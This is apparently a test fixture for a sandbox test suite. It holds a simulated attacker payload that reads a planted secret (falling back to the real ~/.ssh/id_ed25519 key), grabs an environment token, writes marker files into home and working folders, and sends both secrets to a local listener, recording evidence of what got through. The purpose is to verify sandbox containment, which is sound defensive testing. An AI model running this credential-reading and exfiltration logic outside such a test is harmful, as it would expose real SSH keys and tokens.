"""The harmless payload every route delivers, and the benign spec each route's ``build`` returns.

``act(route)`` tries what an attacker wants, reading its targets from ``config.json`` (written beside this
file by tests/test_sandbox.py): read the fake home's key, read the planted token from the environment, write a
marker into folders outside the sandbox's scratch folder, send both secrets to a listener on 127.0.0.1. It
writes what it saw to ``evidence/<route>.json`` in the run's report folder (writable inside the sandbox too),
so the test can tell a payload that ran and achieved nothing from one that never ran. A route may pass its
own ``write`` or ``connect`` (the capability its technique reached); run as a script, it acts for argv[1].
"""

from __future__ import annotations

import json
import os
import socket
import sys
from dataclasses import replace
from importlib.util import module_from_spec, spec_from_file_location
from pathlib import Path

CONFIG = json.loads((Path(__file__).parent / "config.json").read_text())


def _write(path: str, text: str) -> None:
    with open(path, "w") as file:
        file.write(text)


def _connect(port: int, data: bytes) -> None:
    with socket.create_connection(("127.0.0.1", port), timeout=3) as connection:
        connection.sendall(data)


def _secret() -> str | None:
    for path in (CONFIG["secret"], os.path.expanduser("~/.ssh/id_ed25519")):
        try:
            return Path(path).read_text()
        except OSError:
            continue
    return None


def act(route: str, *, write=_write, connect=_connect) -> None:
    seen = {"route": route, "secret": _secret(), "token": os.environ.get(CONFIG["token_name"]), "written": []}
    folders = [*CONFIG["marker_dirs"], os.path.expanduser("~"), os.getcwd(), str(Path(__file__).parent)]
    for folder in folders:
        target = os.path.join(folder, f"{route}-{CONFIG['nonce']}.marker")
        try:
            write(target, f"{seen['secret']}|{seen['token']}")
            seen["written"].append(target)
        except OSError:
            pass
    try:
        connect(CONFIG["port"], f"{route}|{seen['secret']}|{seen['token']}".encode())
        seen["connected"] = True
    except OSError as error:
        seen["connected"] = f"{type(error).__name__}: {error}"
    evidence = Path(CONFIG["evidence"])
    evidence.mkdir(parents=True, exist_ok=True)
    (evidence / f"{route}.json").write_text(json.dumps(seen))


def shell_command(route: str) -> str:
    """A shell command that runs the payload in a new process (for routes that reach a shell or exec)."""
    return f"{sys.executable} -I {Path(__file__)} {route}"


def spec(route: str):
    """The benign tiny causal LM (tests/user_models/custom_lm.py), named after the route."""
    module = sys.modules.get("payload_custom_lm")
    if module is None:
        loader = spec_from_file_location("payload_custom_lm", CONFIG["custom_lm"])
        module = sys.modules["payload_custom_lm"] = module_from_spec(loader)
        loader.loader.exec_module(module)
    return replace(module.SPEC, name=f"payload-{route}")


if __name__ == "__main__":
    act(sys.argv[1])
